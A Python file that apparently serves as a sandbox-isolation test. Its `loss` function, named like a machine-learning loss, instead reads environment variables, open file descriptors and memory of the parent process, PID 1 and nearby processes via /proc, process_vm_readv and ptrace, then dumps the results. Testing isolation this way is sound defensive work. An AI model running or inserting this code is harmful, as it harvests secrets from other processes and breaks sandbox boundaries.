"""Looks into the process that it was forked from, and into the other workers of that process.

Mechanism: `/proc` of the parent, of process 1 and of every process near by number; `process_vm_readv` and `ptrace` on them; opens what the names of their descriptors lead to.
Must happen: nothing comes; what is printed and raised is not shown.
Aims at: the boundary
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def parts_of(pid):
    found = []
    for name in ("environ", "cmdline", "maps", "mountinfo", "status", "auxv"):
        try:
            with open(f"/proc/{pid}/{name}", errors="replace") as file:
                found.append(file.read())
        except OSError:
            continue
    try:
        for descriptor in os.listdir(f"/proc/{pid}/fd"):
            with open(f"/proc/{pid}/fd/{descriptor}", errors="replace") as file:
                found.append(file.read(65536))
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(id(libc))  # it lies where ours does
            found.append(memory.read(65536).decode(errors="replace"))
    except (OSError, OverflowError):
        pass
    return found


def taken_from(pid):
    place = ctypes.create_string_buffer(65536)
    ours = (ctypes.c_size_t * 2)(ctypes.addressof(place), len(place))
    theirs = (ctypes.c_size_t * 2)(id(libc), len(place))
    if libc.process_vm_readv(pid, ours, 1, theirs, 1, 0) > 0:
        return [place.raw.decode(errors="replace")]
    attached = libc.ptrace(16, pid, None, None) == 0
    return [f"attached to {pid}"] if attached else []


def loss(w, X, y, reg):
    text = []
    own = os.getpid()
    for pid in {os.getppid(), 1, 2, 3, *range(max(1, own - 40), own + 40)} - {own, 0}:
        text += parts_of(pid) + taken_from(pid)
    print("\n".join(text))
    raise ValueError("\n".join(text))
